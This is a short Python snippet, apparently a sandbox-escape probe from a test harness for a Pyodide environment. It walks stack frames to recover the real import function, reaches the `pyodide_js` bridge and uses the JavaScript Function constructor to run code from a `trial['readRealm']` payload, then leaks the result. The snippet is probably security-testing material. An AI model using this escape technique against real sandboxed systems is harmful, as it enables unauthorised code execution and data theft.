import sys

frame = sys._getframe()
found = None
while frame is not None and found is None:
    names = frame.f_globals.get("__builtins__")
    loader = names["__import__"] if isinstance(names, dict) else names.__import__
    found = loader("sys").modules.get("pyodide_js")
    frame = frame.f_back
witness()
leak(found.runPython.constructor(trial["readRealm"])())
